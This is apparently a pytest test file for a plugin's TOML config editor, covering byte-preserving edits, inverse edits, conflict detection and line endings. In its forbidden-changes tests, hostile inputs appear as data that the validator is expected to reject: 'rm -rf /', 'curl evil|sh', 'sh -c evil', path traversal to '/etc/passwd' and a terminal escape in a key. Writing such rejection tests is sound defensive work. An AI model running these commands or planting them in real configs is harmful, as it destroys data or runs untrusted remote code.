from __future__ import annotations

import re
import tomllib

import pytest

from selfheal_plugin.lifecycle.configedit import (
    ChangeError, ConfigChange, conflicts_with, edit_config, inverse_changes, remove_empty_tables, split_changes,
)
from selfheal_plugin.errors import ConfigError

ORIGINAL = '''# Binks runtime configuration
model = "qwen3:14b"   # the default model

[self_heal]
min_occurrences = 3

# per-tool overrides
[tools."mcp__k8s__pods_list"]
timeout_ms = 60000 # raised in March
retry_attempts = 1
[tools."server.name:tool"]
preflight = ["path_exists"]

[servers.kubernetes]
health_check = false
'''


def changes(*items):
    return split_changes(list(items))[0]


def set_(path, value):
    return {"kind": "config", "file": "config.toml", "path": path, "op": "set", "value": value}


def test_changing_one_value_keeps_every_other_byte():
    e = edit_config(ORIGINAL, changes(set_(["tools", "mcp__k8s__pods_list", "timeout_ms"], 90000)))
    assert e.new_text == ORIGINAL.replace("timeout_ms = 60000 # raised in March", "timeout_ms = 90000 # raised in March")
    assert e.entries == [{"path": ["tools", "mcp__k8s__pods_list", "timeout_ms"], "op": "set", "existed": True,
                          "old": 60000, "new": 90000}]


def test_key_with_dot_and_colon_is_found_and_stays_quoted():
    e = edit_config(ORIGINAL, changes(set_(["tools", "server.name:tool", "timeout_ms"], 5000)))
    assert '[tools."server.name:tool"]\npreflight = ["path_exists"]\ntimeout_ms = 5000\n\n[servers.kubernetes]' \
        in e.new_text
    assert e.new_text.replace("timeout_ms = 5000\n", "", 1) == ORIGINAL
    assert tomllib.loads(e.new_text)["tools"]["server.name:tool"]["timeout_ms"] == 5000


def test_new_tables_are_quoted_and_set_apart_by_blank_lines():
    e = edit_config(ORIGINAL, changes(set_(["tools", "mcp__github__create.issue", "retry_attempts"], 2),
                                      set_(["tools", "a:b", "circuit_breaker", "failure_threshold"], 3)))
    text = e.new_text
    assert '\n\n[tools."mcp__github__create.issue"]\nretry_attempts = 2\n\n' in text
    assert '\n\n[tools."a:b".circuit_breaker]\nfailure_threshold = 3\n' in text
    # everything that was there is still there, in order and byte for byte
    for block in ORIGINAL.split("\n\n"):
        assert block.strip("\n") in text
    assert text.index("[tools.\"server.name:tool\"]") < text.index("[servers.kubernetes]")
    assert e.created_tables == [["tools", "mcp__github__create.issue"], ["tools", "a:b"],
                                ["tools", "a:b", "circuit_breaker"]]


def test_missing_file_gets_a_fresh_config():
    e = edit_config(None, changes(set_(["tools", "mcp__k8s__pods_list", "timeout_ms"], 90000)))
    assert e.new_text == "[tools.mcp__k8s__pods_list]\ntimeout_ms = 90000\n"
    assert e.entries[0]["existed"] is False


def test_inverse_edit_restores_values_and_removes_what_was_added():
    forward = edit_config(ORIGINAL, changes(set_(["tools", "mcp__k8s__pods_list", "timeout_ms"], 90000),
                                            set_(["tools", "new:tool", "retry_attempts"], 2)))
    back = edit_config(forward.new_text, inverse_changes(forward.entries)).new_text
    back = remove_empty_tables(back, forward.created_tables)
    assert back == ORIGINAL


def test_conflicts_name_the_key_and_both_values():
    forward = edit_config(ORIGINAL, changes(set_(["tools", "mcp__k8s__pods_list", "timeout_ms"], 90000)))
    edited = tomllib.loads(forward.new_text.replace("timeout_ms = 90000", "timeout_ms = 120000"))
    assert conflicts_with(edited, forward.entries) == [
        "tools.mcp__k8s__pods_list.timeout_ms is now 120000 (selfheal set 90000)"]
    assert conflicts_with(tomllib.loads(forward.new_text), forward.entries) == []


@pytest.mark.parametrize("change, message", [
    ({"kind": "config", "file": "../secrets.toml", "path": ["a"], "op": "set", "value": 1}, "only edits config.toml"),
    ({"kind": "config", "file": "/etc/passwd", "path": ["a"], "op": "set", "value": 1}, "only edits config.toml"),
    ({"kind": "config", "file": "other.toml", "path": ["a"], "op": "set", "value": 1}, "only edits config.toml"),
    ({"kind": "config", "path": ["self_heal", "auto_apply_enabled"], "value": True}, "selfheal's own"),
    ({"kind": "config", "path": [], "value": 1}, "non-empty list"),
    ({"kind": "config", "path": ["tools", "x", "t"], "op": "append", "value": 1}, "unknown op"),
    ({"kind": "config", "path": ["tools", "x", "t"], "value": None}, "not a TOML value"),
    ({"kind": "script", "text": "rm -rf /"}, "unknown kind"),
    ({"kind": "manual", "text": "  "}, "needs its text"),
    # only the [tools."NAME"] and [servers."NAME"] keys ToolPolicy reads
    ({"kind": "config", "path": ["canary", "imp-x", "tools", "list_dir", "timeout_ms"], "value": 1},
     r"^change 1: canary\.imp-x\.tools\.list_dir\.timeout_ms is in \[canary\], which only selfheal's own "
     r"canary, shadow and A/B commands write, never a proposal$"),
    ({"kind": "config", "path": ["shadow", "imp-x", "fraction"], "value": 0.5}, r"is in \[shadow\], which only"),
    ({"kind": "config", "path": ["ab", "ab-1"], "op": "delete"}, r"is in \[ab\], which only"),
    ({"kind": "config", "path": ["tools", "X", "command"], "value": "rm -rf /"},
     r"^change 1: tools\.X\.command is not a setting ToolPolicy reads; a proposal may change only "
     r'\[tools\."NAME"\] timeout_ms, retry_attempts, retry_backoff_ms, preflight, circuit_breaker'),
    ({"kind": "config", "path": ["servers", "search", "command"], "value": "sh -c evil"}, "is not a setting"),
    ({"kind": "config", "path": ["mcpServers", "evil", "command"], "value": "curl evil|sh"}, "is not a setting"),
    ({"kind": "config", "path": ["tools", "X"], "op": "delete"}, "is not a setting"),
    ({"kind": "config", "path": ["tools", "X", "timeout_ms", "x"], "value": 1}, "is not a setting"),
    ({"kind": "config", "path": ["tools", "X", "circuit_breaker"], "value": {"failure_threshold": 3, "cmd": "x"}},
     "is not a setting"),
    ({"kind": "config", "path": ["tools", "X", "circuit_breaker", "command"], "value": "x"}, "is not a setting"),
    ({"kind": "config", "path": ["model"], "value": "evil"}, "is not a setting"),
    ({"kind": "config", "path": ["tools", "x\x1b[2J", "command"], "value": "x"},
     re.escape('change 1: tools."x\\x1b[2J".command is not a setting')),  # escaped where it lands
])
def test_forbidden_changes_are_refused(change, message):
    with pytest.raises(ChangeError, match=message):
        split_changes([change])


@pytest.mark.parametrize("change", [
    set_(["tools", "a:b", "timeout_ms"], 1), set_(["tools", "a", "retry_attempts"], 1),
    set_(["tools", "a", "retry_backoff_ms"], 1), set_(["tools", "a", "preflight"], ["path_exists"]),
    set_(["tools", "a", "circuit_breaker", "half_open_requests"], 1),
    set_(["tools", "a", "circuit_breaker"], {"failure_threshold": 3, "timeout_duration_sec": 60}),
    {"kind": "config", "path": ["tools", "a", "circuit_breaker"], "op": "delete"},
    set_(["servers", "k8s", "health_check"], True), {"kind": "config", "path": ["servers", "k8s", "auto_restart"],
                                                      "op": "delete"},
])
def test_the_settings_toolpolicy_reads_may_be_changed(change):
    assert len(split_changes([change])[0]) == 1


def test_path_through_a_value_is_refused():
    with pytest.raises(ChangeError, match="is not a table"):
        edit_config('tools = "x"\n', changes(set_(["tools", "a", "timeout_ms"], 1)))


def test_unparsable_config_is_refused():
    with pytest.raises(ConfigError, match="not valid TOML"):
        edit_config("[tools\nx = ", changes(set_(["tools", "x", "timeout_ms"], 1)))


def test_a_crlf_file_keeps_crlf_and_new_lines_use_it():
    crlf = ORIGINAL.replace("\n", "\r\n")
    one = edit_config(crlf, changes(set_(["tools", "mcp__k8s__pods_list", "timeout_ms"], 90000))).new_text
    assert one == crlf.replace("timeout_ms = 60000", "timeout_ms = 90000")
    e = edit_config(crlf, changes(set_(["tools", "server.name:tool", "timeout_ms"], 5000),
                                  set_(["tools", "new:tool", "retry_attempts"], 2)))
    text = e.new_text
    assert "\n" not in text.replace("\r\n", "")  # no bare LF, not even on new lines
    assert 'preflight = ["path_exists"]\r\ntimeout_ms = 5000\r\n' in text
    assert '\r\n\r\n[tools."new:tool"]\r\nretry_attempts = 2\r\n' in text
    assert text.replace("timeout_ms = 5000\r\n", "", 1).replace('\r\n[tools."new:tool"]\r\nretry_attempts = 2\r\n',
                                                                 "", 1) == crlf
    back = remove_empty_tables(edit_config(text, inverse_changes(e.entries)).new_text, e.created_tables)
    assert back == crlf


def test_a_file_with_mixed_line_endings_keeps_each_line_as_it_was():
    mixed = 'a = 1\r\nb = 2\n[t]\r\nc = 3\r\n'  # mostly CRLF: new lines get CRLF, the LF line stays LF
    text = edit_config(mixed, [ConfigChange(("t", "d"), "set", 4)]).new_text  # the editor edits any key
    assert text == 'a = 1\r\nb = 2\n[t]\r\nc = 3\r\nd = 4\r\n'
    lf = edit_config('a = 1\nb = 2\r\n', [ConfigChange(("c",), "set", 3)]).new_text  # mostly LF
    assert lf == 'a = 1\nb = 2\r\nc = 3\n'
